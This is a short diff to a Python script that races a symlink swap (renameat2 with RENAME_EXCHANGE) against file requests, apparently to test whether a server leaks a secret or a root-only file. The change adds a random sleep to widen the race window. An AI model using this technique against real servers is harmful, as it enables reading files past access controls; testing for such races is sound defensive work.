@@ -6,7 +6,7 @@
   pathswap.py http URL USER:PASS SECRET NAME SECONDS   GET the file and the folder through d
 
 Each prints "ops=N ok=N leaks=N" (leaks: SECRET or the root-only NAME came back)."""
-import base64, ctypes, errno, http.client, os, sys, time, urllib.parse
+import base64, ctypes, errno, http.client, os, random, sys, time, urllib.parse
 
 AT_FDCWD, RENAME_EXCHANGE = -100, 2
 
@@ -19,6 +19,7 @@ def swap(top, secs):
         for _ in range(200):
             if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0:
                 n += 1
+            time.sleep(random.random() / 2000)  # so that some operations fall between swaps
     # leave the real folder as d, as it began
     if os.path.islink(a):
         libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
